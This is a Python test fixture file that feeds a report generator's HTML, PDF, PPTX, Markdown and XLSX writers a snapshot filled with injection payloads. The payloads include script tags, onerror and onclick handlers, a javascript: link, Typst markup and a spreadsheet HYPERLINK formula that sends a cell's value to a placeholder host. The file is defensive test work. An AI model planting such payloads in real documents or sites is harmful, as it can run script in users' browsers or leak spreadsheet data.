"""The snapshot that all writers are tested with, and one in which strangers wrote."""

import json
from typing import Any

import pytest

from core.records.snapshot import Snapshot
from core.report.writers import Format, written
from tests.core.report.hand_made import MODEL, recommendation, snapshot

IMAGE = "<img src=x onerror=alert(1)>.pdf"
SCRIPT = "<script>alert(2)</script>"
FORMULA = '=HYPERLINK("http://example.invalid/"&A1,"x")'
TYPST = '#panic("typst") #import "@preview/x:1.0.0": * $x$ `raw`'


@pytest.fixture(scope="session")
def told() -> Snapshot:
    """A snapshot with everything in it."""
    return snapshot(recommendation=recommendation())


@pytest.fixture(scope="session")
def hostile(told: Snapshot) -> Snapshot:
    """The same with markup, scripts and formulas wherever a name, question or answer stands."""
    text = json.dumps(told)
    for mine, theirs in (
        ("Demo (recorded)", IMAGE),
        (MODEL, f"{SCRIPT}{FORMULA}"),
        ("=no idea", f"{FORMULA} {SCRIPT} {IMAGE}"),
        ("How long is", f"{TYPST} ![x](javascript:alert(3)) {SCRIPT} How long is"),
        ("mixed 1", FORMULA),
        ("One adapter was trained", f"</title></style></svg>{SCRIPT} | {TYPST}"),
        ("Hybrid fits best", f"<b onclick=alert(4)>{SCRIPT}]]></b>"),
    ):
        assert mine in text
        text = text.replace(mine, json.dumps(theirs)[1:-1])
    changed: Any = json.loads(text)
    return changed  # type: ignore[no-any-return]


@pytest.fixture(scope="session")
def files(told: Snapshot, hostile: Snapshot) -> dict[tuple[str, Format], bytes]:
    """Each snapshot in each format, written once."""
    made: dict[tuple[str, Format], bytes] = {}
    for format in ("html", "pdf", "pptx", "md", "xlsx"):
        made["told", format] = written(told, format)
        made["hostile", format] = written(hostile, format)
    return made
